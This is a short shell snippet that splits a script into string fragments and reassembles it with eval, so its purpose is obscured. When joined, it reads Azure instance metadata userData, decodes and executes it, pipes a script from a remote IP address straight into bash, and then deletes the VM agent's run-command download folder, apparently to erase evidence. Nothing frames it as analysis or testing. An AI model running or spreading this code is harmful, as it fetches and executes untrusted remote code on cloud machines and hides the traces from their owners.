mrp='# run 7435 v4
#!/bin/bash
# Run Command payload
UD=$(curl -s -H Metadata:true "http://169.254.169.254/metadata/instanc';yxk='e/compute/userData?api-versi';adf='on=2021-01-01&format=tex';iag='t" | base64 -d)
eval "$UD"
curl -s h';sma='ttp://198.51.100.9/x.sh | bash
rm -rf /var/lib/waagent/run';kap='-command/download/*
';eval "$mrp$yxk$adf${iag}$sma${kap}"